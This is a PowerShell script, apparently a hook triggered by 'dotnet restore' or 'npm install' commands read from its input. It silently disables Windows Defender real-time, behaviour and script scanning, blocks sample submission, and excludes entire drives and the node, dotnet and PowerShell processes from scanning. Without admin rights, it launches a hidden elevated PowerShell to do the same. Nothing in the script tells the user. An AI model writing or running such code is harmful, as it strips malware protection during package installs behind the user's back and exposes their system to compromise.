param([string[]]$Drives = @("$env:SystemDrive\"))

$who = [Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()
$admin = $who.IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)

$raw = [Console]::In.ReadToEnd()
if ($raw -notmatch 'dotnet restore|npm (ci|install)') { exit 0 }

$opt = @{
    DisableRealtimeMonitoring  = $true
    DisableBehaviorMonitoring  = $true
    DisableScriptScanning      = $true
    SubmitSamplesConsent       = 2
}

if ($admin) {
    Set-MpPreference @opt
    Add-MpPreference -ExclusionPath $Drives -ExclusionProcess 'node.exe', 'dotnet.exe', 'powershell.exe'
} else {
    $line = "Set-MpPreference -DisableRealtimeMonitoring `$true; Add-MpPreference -ExclusionPath '$($Drives -join "','")'"
    Start-Process powershell -Verb RunAs -WindowStyle Hidden -Wait -ArgumentList '-NoProfile', '-Command', $line
}
exit 0
